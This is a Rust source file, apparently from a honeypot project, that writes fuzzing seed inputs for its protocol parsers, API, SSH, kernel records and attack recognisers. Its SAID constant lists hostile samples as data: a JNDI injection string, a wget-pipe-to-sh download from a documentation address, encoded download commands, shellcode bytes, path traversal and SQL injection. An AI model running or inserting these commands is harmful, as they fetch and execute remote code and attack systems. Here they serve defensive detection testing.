//! Inputs to begin with: what the tests of the services say, datagrams of real clients, and what nodes say to each other.

mod asked;

use crate::targets::{HONEST, mesh_seeds};
use honeymesh_trap_proto::{Service, Site, ssh_testing::usual};
use honeymesh_xdp_abi::{KnockRecord, ScanRecord, VisitRecord};
use honeymesh_xdp_program::testing::{handshake_frames, scripts};
use std::{collections::BTreeMap, fs, io, path::Path};

/// Writes all seeds into `folder`, in a folder for each target. Returns how many.
///
/// # Errors
/// A file cannot be read or written.
pub fn write(recorded: &Path, folder: &Path) -> io::Result<usize> {
    let mut many = 0;
    for (target, seeds) in all(recorded)? {
        let folder = folder.join(target);
        fs::create_dir_all(&folder)?;
        for (at, seed) in seeds.iter().enumerate() {
            fs::write(folder.join(format!("seed-{at}")), seed)?;
            many += 1;
        }
    }
    Ok(many)
}

/// Inputs by target.
type Seeds = BTreeMap<&'static str, Vec<Vec<u8>>>;

/// All seeds, with the streams that tests have recorded in `recorded`: a folder for each module.
fn all(recorded: &Path) -> io::Result<Seeds> {
    let mut seeds = Seeds::new();
    for target in crate::all() {
        seeds.insert(target.name, talks(target.name, recorded)?);
    }
    let mut add = |name, more: Vec<Vec<u8>>| seeds.entry(name).or_default().extend(more);
    // Whole, and cut.
    let redis = asked::conversations("redis")?;
    add("redis", redis.into_iter().enumerate().map(|(at, said)| [&[0, u8::from(at % 2 == 1)][..], &said].concat()).collect());
    add("datagrams", datagrams());
    add("ssh-inside", ssh());
    add("sftp", crate::growth::filed());
    add("mesh-member", mesh_seeds());
    add("mesh-stranger", vec![vec![0], vec![1, 0], vec![2, 3, 0, 1, 2, 3], b"\x03x".to_vec(), vec![4], vec![4, 1, 0, 0, 1]]);
    add("packets", packets());
    add("words", words());
    add("script", SCRIPTS.iter().map(|script| script.to_vec()).collect());
    let looked = streams(recorded, "")?;
    add("recognise", looked.into_iter().map(|said| [&[0, 0, 0][..], &said].concat()).collect());
    add("recognise", SAID.iter().map(|said| [&[0, 0, 0][..], said].concat()).collect());
    add("rules", SAID.iter().map(|said| said.to_vec()).chain([b"aaaa b1 xyxyxy 0123456789 NeEdLe".repeat(20)]).collect());
    add("lies", lies());
    add("api", api());
    add("kernel-words", kernel_words());
    add("config", configs());
    Ok(seeds)
}

/// The configurations that the documentation shows, and one that is all wrong.
fn configs() -> Vec<Vec<u8>> {
    let pages = [include_str!("../../docs/configuration.md"), include_str!("../../docs/traps/script.md")];
    let shown = pages.into_iter().flat_map(|page| page.split("```toml\n").skip(1)).filter_map(|rest| rest.split("```").next());
    let wrong = "[node]\nname = 7\nmod = \"x\"\n[[trap]]\nservice = \"shs\"\nlisten = [\"1\"]\n[allow]\nnets = [\"1.2.3.4/8\"]\n";
    shown.chain([wrong]).map(|text| text.as_bytes().to_vec()).collect()
}

/// What was recorded of a service, for each of its traps, whole and byte by byte.
fn talks(name: &'static str, recorded: &Path) -> io::Result<Vec<Vec<u8>>> {
    if !Service::NAMES.contains(&name) || name == "script" {
        return Ok(Vec::new());
    }
    let (module, traps) = match name {
        "http" | "https" => ("http", Site::NAMES.len()),
        "smtps" => ("smtp", 1),
        "imaps" => ("imap", 1),
        "pop3s" => ("pop3", 1),
        "docker" | "elasticsearch" | "kubernetes" => ("http", 1),
        "telnet" | "ssh" | "mqtt" | "adb" => (name, 2),
        "ftp" => (name, 3),
        name => (name, 1),
    };
    let mut talks = Vec::new();
    for said in streams(recorded, module)? {
        for choice in (0..traps).filter_map(|choice| u8::try_from(choice).ok()) {
            let inside_tls = matches!(name, "https" | "kubernetes" | "smtps" | "imaps" | "pop3s");
            let hello: &[u8] = if inside_tls { &[22] } else { &[] };
            talks.push([&[choice, 0], hello, &said].concat());
        }
    }
    if ["ftp", "any", "telnet"].contains(&name) {
        talks.extend(streams(recorded, "tls")?.into_iter().map(|hello| [&[0, 0][..], &hello].concat()));
    }
    talks.push(vec![0, 2, 0, 7]);
    Ok(talks)
}

/// What was recorded of a module, or of all.
fn streams(recorded: &Path, module: &str) -> io::Result<Vec<Vec<u8>>> {
    let folder = recorded.join(module);
    if !folder.is_dir() {
        return Ok(Vec::new());
    }
    let mut streams = Vec::new();
    for entry in fs::read_dir(folder)? {
        let path = entry?.path();
        if path.is_dir() {
            for entry in fs::read_dir(path)? {
                streams.push(fs::read(entry?.path())?);
            }
        } else {
            streams.push(fs::read(path)?);
        }
    }
    streams.retain(|stream| stream.len() <= crate::INPUT_BYTES_MAX / 2);
    Ok(streams)
}

/// A part behind its length.
fn part(bytes: &[u8]) -> Vec<u8> {
    let length = u16::try_from(bytes.len()).unwrap_or(u16::MAX).to_le_bytes();
    [&length, bytes].concat()
}

/// One datagram of a client for each service, in the order of the target's list.
fn datagrams() -> Vec<Vec<u8>> {
    let dns = b"\x12\x34\x01\x20\0\x01\0\0\0\0\0\x01\x07version\x04bind\0\0\x10\0\x03\0\0\x29\x04\xd0\0\0\0\0\0\0";
    let any = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\xff\0\x01";
    let mut ntp = [0; 48];
    ntp[0] = 0x23;
    let snmp = b"\x30\x29\x02\x01\x01\x04\x06public\xa0\x1c\x02\x04\x12\x34\x56\x78\x02\x01\0\x02\x01\0\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x01\0\x05\0";
    let sip = b"OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.9:5060;branch=z9hG4bK-1;rport\r\nMax-Forwards: 70\r\nTo: <sip:100@192.0.2.1>\r\nFrom: <sip:100@198.51.100.9>;tag=1\r\nCall-ID: 1\r\nCSeq: 1 REGISTER\r\nContact: <sip:100@198.51.100.9>\r\nContent-Length: 0\r\n\r\n";
    let ssdp = b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n";
    let all: [(u8, &[u8]); 12] = [
        (0, dns),
        (0, any),
        (1, &ntp),
        (1, b"\x17\0\x03\x2a\0\0\0\0"),
        (1, b"\x16\x02\0\x01\0\0\0\0\0\0\0\0"),
        (2, snmp),
        (3, b"\0\x01etc/passwd\0octet\0blksize\x001428\0"),
        (3, b"\0\x02x.bin\0octet\0"),
        (4, sip),
        (5, ssdp),
        (6, b"\0\x01\0\0\0\x01\0\0stats\r\n"),
        (6, b"\0\x01\0\0\0\x01\0\0get a b c\r\n"),
    ];
    all.iter().map(|(service, datagram)| [&[*service, 0][..], datagram].concat()).collect()
}

fn api() -> Vec<Vec<u8>> {
    let asked = [
        "GET /api/v1/status HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /api/v1/bans?subject=203.0.113.0/24&after=1.2.3.4&limit=7 HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /api/v1/events?since=1h&until=2026-11-22T10:00:00Z&subject=2001:db8::/64&kind=visit&order=oldest HTTP/1.1\r\n\r\n",
        "GET /api/v1/events/stream?kind=ban HTTP/1.1\r\nHost: a\r\nLast-Event-ID: 7\r\n\r\n",
        "GET /api/v1/payloads/2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824 HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /api/v1/why/203.0.113.7 HTTP/1.1\r\nHost: a\r\n\r\nGET /metrics HTTP/1.1\r\nHost: a\r\n\r\n",
        "DELETE /api/v1/bans/203.0.113.0/24?local&wait=5s HTTP/1.1\r\nHost: a\r\n\r\nDELETE /api/v1/allow/::%2f64 HTTP/1.1\r\n\r\n",
        "POST /api/v1/bans HTTP/1.1\r\nHost: a\r\nContent-Length: 54\r\n\r\n{\"subject\":\"203.0.113.7\",\"ttl\":\"24h\",\"note\":\"x\\u001b\"}\n",
        "POST /api/v1/join-tokens HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n1e\r\n{\"cluster\":\"alpha\",\"ttl\":\"1h\"}\r\n0\r\n\r\n",
        "PUT /api/v1/mode HTTP/1.1\r\nHost: a\r\nContent-Length: 18\r\n\r\n{\"mode\":\"enforce\"}",
        "GET /api/v1/export?format=csv&since=7d HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /api/v1/peers HTTP/1.1\r\nAuthorization: Bearer 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\r\n\r\n",
    ];
    asked.iter().flat_map(|asked| [0, 1].map(|door| [&[door], asked.as_bytes()].concat())).collect()
}

fn kernel_words() -> Vec<Vec<u8>> {
    let mut seeds = vec![b"\x05Iface\tDestination\tGateway\tFlags\neth0\t00000000\t010200C0\t0003\t0\t0\t0\t00000000\n".to_vec()];
    seeds.push(b"\x05nameserver 192.0.2.53\nnameserver fe80::1%eth0\n".to_vec());
    let [knock, scan, visit] = [size_of::<KnockRecord>(), size_of::<ScanRecord>(), size_of::<VisitRecord>()];
    for (length, kind) in [(knock, 0), (knock, 2), (scan, 1), (visit, 3), (visit, 4)] {
        let mut record = vec![0; length];
        record[18..20].copy_from_slice(&[0xff, 0xff]);
        record[34..36].copy_from_slice(&[0xff, 0xff]);
        record[44..48].copy_from_slice(&[4, kind, 1, 6]);
        seeds.extend([0, 1].map(|reader| [&[reader][..], &record].concat()));
    }
    for script in scripts().iter().take(4) {
        seeds.extend(script.steps.iter().take(6).filter_map(|step| Some([&[2], step.frame.get(14..)?].concat())));
    }
    for kind in 1..=10 {
        let mut word = vec![6, kind, 1, 1, 0, 7, 0, 0, 0, 9, 0, 0, 0, 0, 0, 0, 0];
        word.extend_from_slice(b"eth0\0\0\0\0\0\0\0\0\0\0\0\0");
        seeds.push(word);
    }
    seeds
}

fn lies() -> Vec<Vec<u8>> {
    let payloads: [&[u8]; 3] = [b"", b"USER root\r\nPASS toor\r\n", &[b'x'; 4_090]];
    let told = payloads.map(|payload| honeymesh_trap::testing::honest(payload).iter().flat_map(|packet| part(packet)).collect());
    // Without an end, and the same again and again: a wish for a port, a report.
    let honest = honeymesh_trap::testing::honest(b"x");
    let endless = [1, 2].map(|packet: usize| [part(&honest[packet]), part(&[]), part(&[]), part(&[])].concat());
    told.into_iter().chain(endless).collect()
}

fn ssh() -> Vec<Vec<u8>> {
    let (usual, mut seeds) = (usual(), Vec::new());
    for options in 0..32 {
        let messages: Vec<u8> = usual.iter().skip(usize::from(options & 7)).flat_map(|message| part(message)).collect();
        seeds.push([&[1 | options << 1, options][..], &messages].concat());
    }
    let mut renewed = vec![20];
    renewed.extend_from_slice(&[1; 16]);
    for list in
        ["curve25519-sha256", "ssh-ed25519", "aes128-ctr", "aes128-ctr", "hmac-sha2-256", "hmac-sha2-256", "none", "none", "", ""]
    {
        renewed.extend_from_slice(&u32::try_from(list.len()).unwrap_or(0).to_be_bytes());
        renewed.extend_from_slice(list.as_bytes());
    }
    renewed.extend_from_slice(&[0; 5]);
    seeds.push([&[1, 5][..], &part(&renewed), &part(&[[30, 0, 0, 0, 32].as_slice(), &[9; 32]].concat()), &part(&[21])].concat());
    seeds
}

fn packets() -> Vec<Vec<u8>> {
    let mut seeds = Vec::new();
    for (at, script) in scripts().iter().enumerate() {
        for (step, frame) in script.steps.iter().enumerate() {
            if step % 5 == 0 {
                let choice = u8::try_from(at * 37 % 256).unwrap_or(0);
                seeds.push([&[choice, 1][..], &part(&frame.frame)].concat());
            }
        }
    }
    let flood: Vec<u8> = handshake_frames().iter().take(6).flat_map(|frame| [&[0][..], &part(frame)].concat()).collect();
    seeds.push([&[0][..], &flood].concat());
    seeds.push([&[32][..], &flood].concat());
    seeds
}

fn words() -> Vec<Vec<u8>> {
    let texts: [(u8, &str); 21] = [
        (0, "203.0.113.0/24"),
        (0, "2001:db8::/64"),
        (1, "alpha"),
        (2, "node-1"),
        (3, "01890a5d-ac96-774b-bcce-b302099a8057"),
        (4, "hostile"),
        (5, "2026-11-22T10:00:00.123456Z"),
        (5, "90s"),
        (6, "aGVsbG8="),
        (6, "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"),
        (7, r#"{"subject":"203.0.113.7","ttl":"24h","note":"x","local":true,"force":false}"#),
        (8, r#"{"mode":"lockdown","confirm_within":"60s","confirm":true}"#),
        (9, r#"{"cluster":"alpha","key":"00"}"#),
        (10, r#"{"cluster":"alpha","ttl":"1h","owner":"a"}"#),
        (11, r#"{"who":"node-1","revoked":true}"#),
        (12, "{}"),
        (13, r#"{"address":"203.0.113.7"}"#),
        (14, "{}"),
        (16, "0101010101010101010101010101010101010101010101010101010101010101"),
        (18, "a\u{1b}[2J\r\nforged\u{202e}"),
        (19, "1GiB"),
    ];
    let mut seeds: Vec<Vec<u8>> = texts.iter().map(|(kind, text)| [&[*kind][..], text.as_bytes()].concat()).collect();
    let event = r#"{"id":"01890a5d-ac96-774b-bcce-b302099a8057","at":"2026-11-22T10:00:00.000000Z","node":"n","kind":"visit","source":"203.0.113.7","payload":"aGVsbG8=","fields":{"username":"root"},"findings":["x"],"score":40}"#;
    seeds.push([&[15][..], event.as_bytes()].concat());
    let token = honeymesh_mesh_proto::JoinToken::new(cluster(), HONEST, [5; 32]);
    seeds.push([&[17][..], token.to_text().as_bytes()].concat());
    seeds
}

fn cluster() -> honeymesh_types::ClusterName {
    "test".parse().unwrap_or_else(|error| panic!("{error}"))
}

/// Frames and flags, banner, rules, pieces, stream: see the target.
const SCRIPTS: [&[u8]; 4] = [
    b"\x02\x05HELLO\x00\x11\x00\x04USER\x03ok\n\x00USER root\nPASS x\n",
    b"\x00\x00\x54\x04\x10(?<word>[a-z]+)x\x07<{word}>\x05state\x00fooxbar\n",
    b"\x01\x00\x0b\x20\x0601??03\x0402{1\x02\x03\x01\x01\x05\x03",
    b"\x04\x04nope\x01\x32\x10\x03cmd\x02ok\x04rest\x00\x00\x00cmd a\n",
];

/// What the recognisers know.
const SAID: [&[u8]; 9] = [
    b"${jndi:${lower:l}dap://198.51.100.9/a}",
    b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0",
    b"cd /tmp; wget http://198.51.100.9/x.sh -O- | sh; curl -o y ftp://198.51.100.9/y",
    b"\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x31\xc0\x50\x68",
    b"echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3g7IHNoIHg= | base64 -d",
    b"GET /..%252f..%252f..%c0%af/etc/passwd HTTP/1.1",
    b"powershell -enc dwBnAGUAdAAgAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADkA",
    b"id=1' un/**/ion sel/**/ect 1,2--+&x=\\x3c\\x73cript&lt;",
    b"2f6574632f70617373776430784142434445464748 bait-Pa55w0rd-x1",
];
